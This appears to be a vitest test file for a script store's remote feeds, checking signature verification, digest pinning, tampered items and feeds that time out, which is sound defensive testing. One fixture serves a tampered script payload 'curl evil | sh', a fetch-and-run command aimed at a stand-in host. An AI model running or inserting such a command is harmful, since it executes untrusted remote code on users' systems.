import { generateKeyPairSync, sign, createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src-main/community-store/index-builder.js';
import { storeCore, type StoreCore } from './store-kit.js';

/*
 * Remote feeds against local HTTP servers on 127.0.0.1: a good signed feed,
 * a tampered index, a tampered item, a feed that is down (connection
 * refused), one that never answers (bounded by timeout_seconds), and a
 * pinned index digest. A failing feed never fails the catalog.
 */

interface FeedServer {
  base: string;
  files: Map<string, Buffer>;
  close(): Promise<void>;
}

async function feedServer(options: { hang?: boolean } = {}): Promise<FeedServer> {
  const files = new Map<string, Buffer>();
  const sockets = new Set<Socket>();
  const server = http.createServer((req, res) => {
    if (options.hang) return; // accepts, never answers
    const body = files.get(req.url ?? '');
    if (!body) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json' }).end(body);
  });
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    base: `http://127.0.0.1:${port}`,
    files,
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

const { publicKey, privateKey } = generateKeyPairSync('ed25519');
const PEM = publicKey.export({ type: 'spki', format: 'pem' }).toString();

function scriptItem(id: string, content: string) {
  return { type: 'script', id, name: id, version: '1.0.0', summary: `feed script ${id}`, tags: ['feed'], os_family: 'linux', author: 'lab', description: '', payload: { name: `Feed ${id}`, kind: 'sh', content } };
}

let s: StoreCore;
let good: FeedServer;
let hanging: FeedServer;
let downUrl: string;
let indexBytes: Buffer;

beforeAll(async () => {
  s = await storeCore();
  good = await feedServer();
  hanging = await feedServer({ hang: true });
  const closed = await feedServer();
  downUrl = `${closed.base}/index.json`;
  await closed.close();

  const hello = JSON.stringify(scriptItem('feed-hello', 'echo hello from the feed\n'));
  const tampered = scriptItem('feed-tampered', 'echo as signed\n');
  const index = buildIndex([
    { file: 'items/feed-hello.json', text: hello },
    { file: 'items/feed-tampered.json', text: JSON.stringify(tampered) },
  ]);
  indexBytes = Buffer.from(JSON.stringify(index));
  good.files.set('/index.json', indexBytes);
  good.files.set('/index.json.sig', Buffer.from(sign(null, indexBytes, privateKey).toString('base64')));
  good.files.set('/items/feed-hello.json', Buffer.from(hello));
  // Served with another payload than the index lists (its digest no longer matches).
  good.files.set('/items/feed-tampered.json', Buffer.from(JSON.stringify({ ...tampered, payload: { ...tampered.payload, content: 'curl evil | sh\n' } })));
  // The same index under another path, signed by nobody but pinned by digest.
  good.files.set('/pinned/index.json', indexBytes);
  good.files.set('/pinned/items/feed-hello.json', Buffer.from(hello));
});
afterAll(async () => {
  await s.t.close();
  await good.close();
  await hanging.close();
});

const statusOf = async (name: string) => {
  const res = await s.call('GET', '/store/feeds', undefined, 'viewer');
  return (res.body.data as unknown as { name: string; state: string; items: number; error: string | null }[]).find((feed) => feed.name === name);
};

describe('feed settings', () => {
  it('are admin-only to change, and refuse plain http to other hosts and unverifiable feeds', async () => {
    const feed = { name: 'lab', url: `${good.base}/index.json`, public_key: PEM };
    expect((await s.call('PUT', '/store/settings', { feeds: [feed], timeout_seconds: 2 }, 'operator')).status).toBe(403);
    const plain = await s.call('PUT', '/store/settings', { feeds: [{ ...feed, url: 'http://store.example.org/index.json' }], timeout_seconds: 2 }, 'admin');
    expect(plain.status).toBe(400);
    expect(plain.body.error).toContain('https');
    const { public_key: _key, ...unverified } = feed;
    expect((await s.call('PUT', '/store/settings', { feeds: [unverified], timeout_seconds: 2 }, 'admin')).status).toBe(400);
    expect((await s.call('PUT', '/store/settings', { feeds: [{ ...feed, public_key: 'AAAA' }], timeout_seconds: 2 }, 'admin')).status).toBe(400);
    expect((await s.call('PUT', '/store/settings', { feeds: [feed, feed], timeout_seconds: 2 }, 'admin')).status).toBe(400);
    expect((await s.call('GET', '/store/settings', undefined, 'viewer')).body.data).toMatchObject({ feeds: [], timeout_seconds: 10 });
  });
});

describe('feeds', () => {
  beforeAll(async () => {
    const res = await s.call(
      'PUT',
      '/store/settings',
      {
        timeout_seconds: 1,
        feeds: [
          { name: 'lab', url: `${good.base}/index.json`, public_key: PEM },
          { name: 'pinned', url: `${good.base}/pinned/index.json`, index_sha256: createHash('sha256').update(indexBytes).digest('hex') },
          { name: 'pinned-wrong', url: `${good.base}/pinned/index.json`, index_sha256: '0'.repeat(64) },
          { name: 'down', url: downUrl, public_key: PEM },
          { name: 'slow', url: `${hanging.base}/index.json`, public_key: PEM },
          { name: 'off', url: `${good.base}/index.json`, public_key: PEM, enabled: false },
        ],
      },
      'admin',
    );
    expect(res.status, res.body.error).toBe(200);
  });

  it('lists a verified feed\'s items beside the shipped ones, while down, slow and mismatched feeds only report their state', async () => {
    const catalog = await s.call('GET', '/store/catalog?limit=500', undefined, 'viewer');
    expect(catalog.status).toBe(200);
    const sources = catalog.body.data.map((item) => `${String(item.source)}:${String(item.id)}`);
    expect(sources).toContain('lab:feed-hello');
    expect(sources).toContain('pinned:feed-hello');
    expect(sources.filter((entry) => entry.startsWith('builtin:')).length).toBeGreaterThanOrEqual(12);
    expect(await statusOf('lab')).toMatchObject({ state: 'ok', items: 2, error: null });
    expect(await statusOf('pinned')).toMatchObject({ state: 'ok', items: 2 });
    expect((await statusOf('pinned-wrong'))?.state).toBe('failed');
    expect((await statusOf('pinned-wrong'))?.error).toContain('pinned');
    expect(await statusOf('down')).toMatchObject({ state: 'failed', items: 0 });
    expect((await statusOf('down'))?.error).toContain('connection refused');
    expect((await statusOf('slow'))?.error).toContain('no complete answer within 1 s');
    expect(await statusOf('off')).toMatchObject({ state: 'disabled', items: 0 });
    const failures = s.t.core.kernel.events.all().filter((event) => event.kind === 'store.feed.failed').map((event) => (event.detail as { feed: string }).feed);
    expect(new Set(failures)).toEqual(new Set(['pinned-wrong', 'down', 'slow']));
  });

  it('imports a feed item after checking its digest, and records the feed as its source', async () => {
    const detail = await s.call('GET', '/store/items/script/feed-hello?source=lab', undefined, 'viewer');
    expect(detail.status, detail.body.error).toBe(200);
    const res = await s.call('POST', '/store/import', { type: 'script', id: 'feed-hello', source: 'lab' });
    expect(res.status, res.body.error).toBe(200);
    expect(s.scripts.byName('Feed feed-hello')?.content).toBe('echo hello from the feed\n');
    const listed = await s.call('GET', '/store/catalog?source=lab&q=hello', undefined, 'viewer');
    expect(listed.body.data[0]?.installed).toMatchObject({ version: '1.0.0' });
  });

  it('refuses an item whose payload does not match the signed index (502), writing nothing', async () => {
    const detail = await s.call('GET', '/store/items/script/feed-tampered?source=lab', undefined, 'viewer');
    expect(detail.status).toBe(502);
    expect(detail.body.error).toContain('does not match the index');
    const res = await s.call('POST', '/store/import', { type: 'script', id: 'feed-tampered', source: 'lab' });
    expect(res.status).toBe(502);
    expect(s.scripts.byName('Feed feed-tampered')).toBeUndefined();
  });

  it('serves the last good index as stale when the index is tampered with, and the catalog still answers', async () => {
    good.files.set('/index.json', Buffer.from(indexBytes.toString().replace('feed script feed-hello', 'feed script (changed)')));
    try {
      const catalog = await s.call('GET', '/store/catalog?refresh=true&source=lab', undefined, 'viewer');
      expect(catalog.status).toBe(200);
      expect(catalog.body.data.map((item) => item.summary)).toContain('feed script feed-hello');
      const status = await statusOf('lab');
      expect(status).toMatchObject({ state: 'stale', items: 2 });
      expect(status?.error).toContain('signature does not verify');
    } finally {
      good.files.set('/index.json', indexBytes);
    }
    await s.call('GET', '/store/feeds?refresh=true', undefined, 'viewer');
    expect((await statusOf('lab'))?.state).toBe('ok');
  });

  it('keeps answering when a feed without a cached index is tampered with', async () => {
    const res = await s.call('GET', '/store/catalog?source=pinned-wrong&refresh=true', undefined, 'viewer');
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual([]);
  });
});
